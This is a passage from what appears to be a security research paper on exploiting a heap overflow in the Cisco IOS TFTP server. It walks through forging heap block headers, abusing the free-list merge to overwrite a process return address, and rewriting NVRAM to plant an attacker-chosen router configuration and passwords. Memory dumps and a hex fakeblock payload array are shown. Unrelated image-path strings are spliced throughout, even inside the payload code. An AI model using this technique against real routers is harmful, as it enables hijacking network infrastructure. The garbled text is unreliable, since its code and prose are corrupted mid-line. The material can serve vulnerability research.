     | Block Head   |
     | AAAAAAAAAAAA |    <--- You are here
     | RED ZONE     |    <--- Your data here
     | Block Head   |

We will call the uppermost block, who's data part we are overflowing, the
"host block", because it basically "hosts" our evildoing. For the sake of
clarity, we will call the overwritten block header the "fake block", since
we try to fake it's contents.

So, when "Check heaps" or comparable checks during malloc() and free() areperformed on our host block, the overwrite is already noticed. First of
all, we have to append the red zone canary to our buffer. If we overflow
exactly with the number of bytes the buffer can hold and append the red
zone dword 0xFD0110DF, "Check heaps" will not complain. From here one, it's
fair game up to the PREV ptr - because the values are either static (MAGIC)
or totally ignored (PID, Alloc ptrs).

Assumed we overwrite RED ZONE, MAGIC, PID, the three Alloc pointer, NEXT
and PREV, a check performed on the host block will already trigger a
software forced crash, since the PREV pointer we overwrote in the next
block does not point back to the host block. We have only one way today to
deal with this issue: we crash the device. The reason behind this is, that
we put it in a fairly predictable memory state. After a reboot, the memory
is more or less structured the same way. This also depends on the amount
of memory available in the device we are attackingand it's certainly not a
good solution. When crashing the device the first time with an A-Strip, we
can try to grab logging information off the network or the syslog server if
such a thing is configured. Yours truly is totally aware of the fact that
this prevents real-world application of the technique. For this article,
let's just assume you can read the console output.

Now that we know the PREV pointer to put into the fake block, let's go on.
For now ignoring the NEXT pointer, we have to deal with the size field. The
fact that this is a 32bit field and we are doing a string overflow prevents
us from putting reasonable numbers in there. The smallest number for a used
block would be 0x80010101 and for an unused one 0x01010101. This is much
more than IOS would accept. But to make a long story short, putting
0x7FFFFFFF in there will pass the size field checks. As simple as that.

In this particular case, as with many application level service overflows
in IOS, our host block is one of the last blocks in the chain. The most
simple case is when the host block is the next-to-last block. And viola,
this is the case with the TFTP server overflow. In other cases, the attack
involves creating more than one fake block header and becomes increasingly
complicated but not impossible. But from this point on, the discussion is
pretty much centered around the specific bug we are dealing with.

Assumed normal operation, IOS will allocate some block for storing the
requested file name. The block after that is the remaining free memory.
When IOS is done with the TFTP operation, it will free() the block it just
allocated. Then, it will find out that there are two free blocks - one
after the other - in memory. To prevent memory fragmentation (a big problem
on heavy load routers), IOS will try to coalesce (merge) the free blocks
into one. By doing so, the pointers for the linked lists have to beadjusted. The NEXT and PREV pointers of the block before that and the block
after that (the remaining free memory) have to be adjusted to point to each
other. Additionally, the pointers in the free block info FREE NEXT and FREE
PREV have to be adjusted, so the linked list of free blocks is not broken.

Out of the sudden, we have two pointer exchange operations that could
really help us. Now, we know that we can not choose the pointer in PREV.
Although, we can choose the pointer in NEXT, assumed that "Check heaps"
does not fire before our free() tok place, this only allowes us to write
the previous pointer to any writable location in the routers memory. Being
usefull by itself, we will not look deeper into this but go on to the FREE
NEXT and FREE PREV pointers. As the focused reader surely noticed, these
two pointers are not validated by "Check heaps".

What makes exploitation of this situation extremely convenient is that
fact, that the pointer exchange in FREE PREV and FREE NEXT only relies on
the values in those two fields. What happens during the merge operation is
    + the value in FREE PREV is written to where FREE NEXT points to
      plus an offset of 20 bytes
    + the value in FREE NEXT is written to where FREE PREV points to

The only thing we need now is a place to write a pointer to. As with many
other pointer based exploits, we are looking for a fairly static location
in memory to do this. Such a static location (changes per IOS image) is the
process stack of standard processes loaded right after startup. But how do
we find it?

In the IOS memory list, there is an element called the "Process Array".
This is a list of pointers - one for every process currently running inIOS. You can find it's location by issuing a "show memory processor
allocating-process" command (output trimmed):radio#show memory processor allocating-process

          Processor memory

 Address Bytes Prev.   Next    Ref  Alloc Proc Alloc PC  What
258AD20   1504 0       258B32C   1  *Init*     20D62F0   List Elements
258B32C   3004 258AD20 258BF14   1  *Init*     20D6316   List
258F998   1032 258F914 258FDCC   1  *Init*     20E5108   Process Array
258FDCC   1000 258F998 25901E0   1  Load Meter 20E54BA   Process Stack
25901E0    488 258FDCC 25903F4   1  Load Meter 20E54CC   Process
25903F4    128 25901E0 25904A0   1  Load Meter 20DD1CE   Process Events

This "Process Array" can be displayed by the "show memory" command:

radio#show memory 0x258F998
0258F990:                   AB1234CD FFFFFFFE          +.4M...~
0258F9A0: 00000000 020E50B6 020E5108 0258FDCC  ......P6..Q..X}L
0258F9B0: 0258F928 80000206 00000001 020E1778  .Xy(...........x
0258F9C0: 00000000 00000028 02590208 025D74C0  .......(.Y...]t@
0258F9D0: 02596F3C 02598208 025A0A04 025A2F34  .Yo<.Y...Z...Z/4
0258F9E0: 025AC1FC 025BD554 025BE920 025BFD2C  .ZA|.[UT.[i .[},
0258F9F0: 025E6FF0 025E949C 025EA95C 025EC484  .^op.^...^)\.^D.
0258FA00: 025EF404 0262F628 026310DC 02632FD8  .^t..bv(.c.\.c/X
0258FA10: 02634350 02635634 0263F7A8 026418C0  .cCP.cV4.cw(.d.@
0258FA20: 026435FC 026475E0 025D7A38 026507E8  .d5|.du`.]z8.e.h
0258FA30: 026527DC 02652AF4 02657200 02657518  .e'\.e*t.er..eu.
0258FA40: 02657830 02657B48 02657E600269DCFC  .ex0.e{H.e~`.i\|
0258FA50: 0269EFE0 026A02C4 025DD870 00000000  .io`.j.D.]Xp....
0258FA60: 00000000 025C3358 026695EC 0266A370  .....\3X.f.l.f#p

While you also see the already discussed block header format in action now,
the interesting information starts at 0x0258F9C4. Here, you find the number
of processes currently running on IOS. They are ordered by their process
ID. What we are looking for is a process that gets executed every once in awhile. The reason for this is, if we modify something in the process data
structures, we don't want the process being active at this point in time,
so that the location we are overwriting is static. For this reason, yours
truly picked the "Load Meter" process, which is there to measure the system
load and is fired off about every 30 seconds. Let's get the PID of
"Load Meter":

radio#show processes cpu
CPU utilization for five seconds: 2%/0%; one minute: 3%; five minutes: 3%
 PID  Runtime(ms)  Invoked  uSecs    5Sec   1Min   5Min TTY Process
   1          80      1765     45   0.00%  0.00%  0.00%   0 Load Meter

Well, conveniently, this process hasPID 1. Now, we check the memory
location the "Process Array" points to. Yours truly calls this memory
location "process record", since it seems to contain everything IOS needs
to know about the process. The first two entries in the record are:

radio#sh mem 0x02590208
02590200:                   0258FDF4 025901AC          .X}t.Y.,
02590210: 00001388 020E488E 00000000 00000000  ......H.........
02590220: 00000000 00000000 00000000 00000000  ................

The first entry in this record is 0x0258FDF4, which is the process stack.
You can compare this to the line above that says "Load Meter" and "Process
Stack" on it in the output of "show memory processor allocating-process".
The second element is the current stack pointer of this process
(0x025901AC). By now it should also be clear why we want to pick a process
with low activity. But surprisingly, the same procedure also works quite
well with busier processes such as "IP Input". Inspecting the location of
the stack pointer, we see something quite familiar:radio#sh mem 0x025901AC
025901A0:                            025901C4              .Y.D
025901B0: 020DC478 0256CAF8 025902DE 00000000  ..Dx.VJx.Y.^....

This is classic C calling convention: first we find the former frame
pointer and then we find the return address. Therefore, 0x025901B0 is the
address we are targeting to overwrite with a pointer supplied by us.

The only question left is: Where do we want the return address to point to?
As already mentioned, IOS will overwrite the buffer we are filling with
0x0D0D0D0D when the free() is executed - so this is not a good place to
have your code in. On the other hand, the fake block's data section is
already considered clean from IOS's point of view, so we just append our
code to the fake block header we already have to send. But what's the
address of this? Well, since we have to know the previous pointer, we can
calculate the address of our code as offset to this one - and it turns out
that this is actually a static number in this case. There are other, more
advanced methods to deliver the code to the device, but let's keep focused.

The TFTP filename we are asking for should now have the form of:

 |              |
 |              |
 | CODE         |
 |              |

At this point, we can build the fake block using all the information we

    char                fakeblock[] =
        "\xFD\x01\x10\xDF"      // RED
        "\xAB\x12\x34\xCD"      // MAGIC
        "\xFF\xFF\xFF\xFF"      // PID
        "\x80\x81\x82\x83"      //
        "\x08\x0C\xBB\x76"      // NAME
        "\x80\x8a\x8b\x8c"      //

        "\x02\x0F\x2A\x04"      // NEXT"\x02\x0F\x16\x94"      // PREV

        "\x7F\xFF\xFF\xFF"      // SIZE
        "\x01\x01\x01\x01"      //
        "\xA0\xA0\xA0\xA0"      // padding
        "\xDE\xAD\xBE\xEF"      // MAGIC2
        "\x8A\x8B\x8C\x8D"      //
        "\xFF\xFF\xFF\xFF"      // padding
        "\xFF\xFF\xFF\xFF"      // padding

        "\x02\x0F\x2A\x24"      // FREE NEXT (in BUFFER)
        "\x02\x59\x01\xB0"      // FREE PREV (Load Meter return addr)

When sending this to the Cisco, you are likely to see something like this:

illegal instruction interrupt
program counter = 0x20f2a24
status register = 0x2700
vbr at time of exception = 0x4000000

depending on what comes after your fake block header. Of course, we did not
provide code for execution yet. But at this point in time, we got the CPU
redirected into our buffer.

--[ 5 - Writing (shell)code for Cisco

Before one can write code for the Cisco platform, you have to decide on the
general processor architecture you are attacking. For the purpose of this
paper, we will focus on the lower range devices running on Motorola 68k

Now the question is, what do you want to do with your code on the system.
Classic shell code design for commonly used operating system platforms usessyscalls or library functions to perform some port binding and provide
shell access to the attacker. The problem with Cisco IOS is, that we will
have a hard time keeping it alive after we performed our pointer games.
This is because in contrast to "normal" daemons, we destroyed the memory
management of the operating system core and we can not expect it to cope
with the mess we left for it.

Additionally, the design of IOS does not feature transparent syscalls as
far as yours truly knows. Because of it's monolithic design, things are
linked together at build time. There might be ways to call different
subfunctions of IOS even after an heap overflow attack, but it appears to
be an inefficient route to take for exploitation and would make the whole
process even more instable.

The other way is to change the routers configuration and reboot it, so it
will come up with the new config, which you provided. This is far more
simpler than trying to figure out syscalls or call stack setups. The idea
behind this approach is, that you don't need any IOS functionality anymore.
Because of this, you don't have to figure out addresses and other vital
information about the IOS. All you have to know is which NVRAM chips are
used in the box and where there are mapped. This might sound way more
complicated than identifying functions in an IOS image - but is not. In
contrast to common operating systems on PC platforms, where the number of
possible hardware combinations and memory mappings by far exceedes a
feasable mapping range, it's the other way around for Cisco routers. Youcan have more than ten different IOS images on a single platform - and this
is only one branch - but you always have the same general memory layout and
the ICs don't change for the most part. The only thing that may differ
between two boxes are the modules and the size of available memory (RAM,
NVRAM and Flash), but this is not of big concern for us.

The non-volatile random access memory (NVRAM) stores the configuration of a
Cisco router in most cases. The configuration itself is stored in plain
text as one continious C-style string or text file and is terminated by the
keyword 'end' and one or more 0x00 bytes. A header structure contains
information like the IOS version that created this configuration, the size
of it and a checksum. If we replace the config on the NVRAM with our own
and calculate the numbers for the header structure correctly, the router
will use our IP addresses, routings, access lists and (most important)
passwords next time it reloads.

As one can see on the memory maps [2], there are one (in the worst case
two) possible memory addresses for the NVRAM for each platform. Since
the NVRAM is mapped into the memory just like most memory chips are, we
can access it with simple memory move operations. Therefore, the only thing
we need for our "shell" code is the CPU (M68k), it's address and data bus
and the cooperation of the NVRAM chip.

There are things to keep in mind about NVRAM. First of all, it's slow to
write to. The Xicor chips yours truly encountered on Cisco routers require
that after a write, the address lines are kept unchanged for the time the
chip needs to write the data. A control register will signal when the write
operation is done. Since the location ofthis control register is not known
and might not be the same for different types of the same platform, yours
truly prefers to use delay loops to give the chip time to write the data -
since speed is not the attackers problem here.

Now, that we know pretty much what we want to do, we can go on and look at
the "how" part of things. First of all, you need to produce assembly for
the target platform. A little known fact is, that IOS is actually build (at
least some times) using GNU compilers. Therefore, the binutils[3] package
can be compiled to build Cisco compatible code by setting the target
platform for the ./configure run to --target=m68k-aout. When you are done,
you will have a m68k-aout-as binary, which can produce your code and a
m68k-aout-objdump to get the OP code values.

In case the reader is fluent in Motorola 68000 assembly, I would like to
apologize for the bad style, but yours truly grew up on Intel.
Optimizations and style guides are welcome. Anyway, let's start coding.

For a string overflow scenario like this one, the recommended way for small
code is to use self-modification. The main code will be XOR'd with a
